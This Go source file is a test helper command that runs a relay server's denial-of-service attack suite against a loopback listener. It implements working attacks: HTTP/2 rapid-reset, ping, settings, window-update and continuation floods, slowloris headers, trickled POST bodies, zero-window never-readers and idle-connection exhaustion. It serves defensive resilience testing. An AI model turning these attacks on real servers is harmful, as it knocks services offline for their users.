// Command attacker runs one of the attacks of the relay's attack suite
// (relay/attack_test.go) against a listener on loopback, until its
// standard input closes. The test builds it without the race detector
// and runs it as a child process, so that the attackers' CPU and
// descriptors are not the test process's: the suite measures what the
// attack costs the relay, not what running the attacker costs.
//
// Usage: attacker -addr HOST:PORT -attack NAME [-path PATH] [-from IP] [-renew D]
package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr := flag.String("addr", "", "the `HOST:PORT` attacked")
	name := flag.String("attack", "", "the attack")
	path := flag.String("path", "/sdk/snapshot?ns=big", "the `PATH` of the snapshot requests")
	from := flag.String("from", "", "the local `IP` to connect from (another loopback address: another peer than the healthy clients)")
	flag.DurationVar(&renew, "renew", 15*time.Second, "how often the never-readers open their requests again")
	flag.Parse()
	if *from != "" {
		ip := net.ParseIP(*from)
		if ip == nil {
			fmt.Fprintf(os.Stderr, "attacker: -from %q is not an IP\n", *from)
			os.Exit(2)
		}
		dialer.LocalAddr = &net.TCPAddr{IP: ip}
	}
	stop := make(chan struct{})
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin) // the parent closes it, or dies
		close(stop)
	}()
	a := attacks[*name]
	if a == nil || *addr == "" {
		fmt.Fprintf(os.Stderr, "attacker: unknown attack %q or no -addr\n", *name)
		os.Exit(2)
	}
	fmt.Println("attacking") // the parent waits for this line
	a(*addr, *path, stop)
}

// dialer is every attack's (-from); renew is how often the never-readers
// open their requests again (-renew).
var (
	dialer = net.Dialer{Timeout: 5 * time.Second}
	renew  time.Duration
)

func dial(addr string) (net.Conn, error) { return dialer.Dial("tcp", addr) }

var attacks = map[string]func(addr, path string, stop <-chan struct{}){
	"http1-never-readers": func(addr, path string, stop <-chan struct{}) {
		// 64 HTTP/1.1 connections (the default snapshot slots) asking for
		// a large snapshot and never reading it, opened again every
		// -renew: each batch is fresh requests, not yet stalled.
		renewing(stop, func() []net.Conn { return neverReaders(addr, path, 64) })
	},
	"h2-never-readers": func(addr, path string, stop <-chan struct{}) {
		// 4 HTTP/2 connections of 16 snapshot streams each, a zero
		// receive window (never a byte of the replies), opened again every
		// -renew.
		renewing(stop, func() []net.Conn {
			var conns []net.Conn
			for range 4 {
				h := dialH2(addr, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
				if h == nil {
					break
				}
				conns = append(conns, h.c)
				for i := range 16 {
					if h.headers(uint32(2*i+1), path, true) != nil {
						break
					}
				}
			}
			return conns
		})
	},
	"http1-unread-replies": func(addr, path string, stop <-chan struct{}) {
		// 500 HTTP/1.1 connections that ask for a snapshot and never read
		// it, held: what the host's kernel holds of the replies.
		conns := neverReaders(addr, path, 500)
		<-stop
		for _, c := range conns {
			c.Close()
		}
	},
	"h2-zero-window-snapshots": func(addr, path string, stop <-chan struct{}) {
		// One connection, a zero receive window, 200 snapshots of a
		// 1 MiB namespace that are never read.
		h := dialH2(addr, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if h == nil {
			return
		}
		defer h.c.Close()
		for i := range 200 {
			if h.headers(uint32(2*i+1), path, true) != nil {
				break
			}
		}
		<-stop
	},
	"http1-slow-snapshot-readers": func(addr, path string, stop <-chan struct{}) {
		// 32 HTTP/1.1 connections (half the relay's default snapshot
		// slots) that ask for a 1 MiB snapshot and never read it.
		var conns []net.Conn
		defer func() {
			for _, c := range conns {
				c.Close()
			}
		}()
		for range 32 {
			c, err := dial(addr)
			if err != nil {
				return
			}
			conns = append(conns, c)
			_, _ = io.WriteString(c, "GET "+path+" HTTP/1.1\r\nHost: x\r\n\r\n")
		}
		<-stop
	},
	"rapid-reset": func(addr, path string, stop <-chan struct{}) {
		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, i int) error {
			id := uint32(2*i + 1)
			if err := h.headers(id, path, true); err != nil {
				return err
			}
			return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		})
	},
	"settings-flood": func(addr, _ string, stop <-chan struct{}) {
		dup := make([]http2.Setting, 1000)
		for i := range dup {
			dup[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}
		}
		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, _ int) error {
			return h.fr.WriteSettings(dup...)
		})
	},
	"ping-flood": func(addr, _ string, stop <-chan struct{}) {
		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, _ int) error {
			return h.fr.WritePing(false, [8]byte{1})
		})
	},
	"window-update-flood": func(addr, _ string, stop <-chan struct{}) {
		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, _ int) error {
			return h.fr.WriteWindowUpdate(0, 1)
		})
	},
	"continuation-flood": func(addr, _ string, stop <-chan struct{}) {
		block := bytes.Repeat([]byte{0x40, 0x01, 'a', 0x01, 'b'}, 1000) // literal headers a: b, never ending
		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, i int) error {
			if i == 0 {
				return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:5]})
			}
			return h.fr.WriteContinuation(1, false, block)
		})
	},
	"slowloris-headers": func(addr, _ string, stop <-chan struct{}) {
		// 500 connections, each sending a header byte a second.
		var wg sync.WaitGroup
		for range 500 {
			wg.Go(func() {
				c, err := dial(addr)
				if err != nil {
					return
				}
				defer c.Close()
				_, _ = io.WriteString(c, "GET /sdk/snapshot?ns=app HTTP/1.1\r\nHost: x\r\n")
				tick := time.NewTicker(time.Second)
				defer tick.Stop()
				for {
					select {
					case <-stop:
						return
					case <-tick.C:
					}
					if _, err := io.WriteString(c, "X"); err != nil {
						return
					}
				}
			})
		}
		wg.Wait()
	},
	"slow-request-bodies": func(addr, _ string, stop <-chan struct{}) {
		// 300 connections, each a POST of a 100,000-byte body sent a byte
		// every 2 s; a connection the server closes is opened again a
		// second later.
		var wg sync.WaitGroup
		for range 300 {
			wg.Go(func() {
				for {
					trickleBody(addr, stop)
					select {
					case <-stop:
						return
					case <-time.After(time.Second):
					}
				}
			})
		}
		wg.Wait()
	},
	"idle-connections": func(addr, _ string, stop <-chan struct{}) {
		// 2,000 connections that never send a byte.
		var conns []net.Conn
		defer func() {
			for _, c := range conns {
				c.Close()
			}
		}()
		for range 2000 {
			c, err := dial(addr)
			if err != nil {
				break
			}
			conns = append(conns, c)
		}
		<-stop
	},
}

// neverReaders opens n HTTP/1.1 connections, each with a receive buffer
// as small as the kernel allows, and sends a GET of path on each, which
// is never read.
func neverReaders(addr, path string, n int) []net.Conn {
	var conns []net.Conn
	for range n {
		c, err := dial(addr)
		if err != nil {
			break
		}
		if tc, ok := c.(*net.TCPConn); ok {
			_ = tc.SetReadBuffer(1024)
		}
		conns = append(conns, c)
		_, _ = io.WriteString(c, "GET "+path+" HTTP/1.1\r\nHost: x\r\n\r\n")
	}
	return conns
}

// renewing opens connections with open, and every renew closes them and
// opens them again, until stop.
func renewing(stop <-chan struct{}, open func() []net.Conn) {
	tick := time.NewTicker(renew)
	defer tick.Stop()
	for {
		conns := open()
		var done bool
		select {
		case <-stop:
			done = true
		case <-tick.C:
		}
		for _, c := range conns {
			c.Close()
		}
		if done {
			return
		}
	}
}

// trickleBody sends a POST to the ack path with a body of 100,000 bytes,
// a byte every 2 s, until stop or the server closes the connection.
func trickleBody(addr string, stop <-chan struct{}) {
	c, err := dial(addr)
	if err != nil {
		return
	}
	defer c.Close()
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		_, _ = io.Copy(io.Discard, c)
	}()
	if _, err := io.WriteString(c, "POST /sdk/ack HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"); err != nil {
		return
	}
	tick := time.NewTicker(2 * time.Second)
	defer tick.Stop()
	for {
		select {
		case <-stop:
			return
		case <-closed:
			return
		case <-tick.C:
		}
		if _, err := io.WriteString(c, " "); err != nil {
			return
		}
	}
}

// h2conn is an attacker's raw HTTP/2 connection (h2c, prior knowledge).
type h2conn struct {
	c  net.Conn
	fr *http2.Framer
	hb bytes.Buffer
	he *hpack.Encoder
}

func dialH2(addr string, settings ...http2.Setting) *h2conn {
	c, err := dial(addr)
	if err != nil {
		return nil
	}
	h := &h2conn{c: c}
	h.fr = http2.NewFramer(c, c)
	h.he = hpack.NewEncoder(&h.hb)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil
	}
	_ = h.fr.WriteSettings(settings...)
	// Read and drop whatever the server sends.
	go func() { _, _ = io.Copy(io.Discard, c) }()
	return h
}

func (h *h2conn) headers(id uint32, path string, end bool) error {
	h.hb.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "x"}, {":path", path}} {
		_ = h.he.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.hb.Bytes(), EndStream: end, EndHeaders: true})
}

// floodBurst is how many frames a flood sends per connection every 10 ms:
// 5,000 a second. Unbounded, an attacker on the same cores as the relay
// would measure only the CPU it takes.
const floodBurst = 50

// floodFor calls step until stop, on n connections, each reopened when
// the server closes it.
func floodFor(stop <-chan struct{}, n int, dial func() *h2conn, step func(h *h2conn, i int) error) {
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			for {
				h := dial()
				if h == nil {
					return
				}
				for i := 0; ; i++ {
					if i%floodBurst == 0 {
						select {
						case <-stop:
							h.c.Close()
							return
						case <-time.After(10 * time.Millisecond):
						}
					}
					if step(h, i) != nil {
						break
					}
				}
				h.c.Close()
				select {
				case <-stop:
					return
				case <-time.After(10 * time.Millisecond):
				}
			}
		})
	}
	wg.Wait()
}
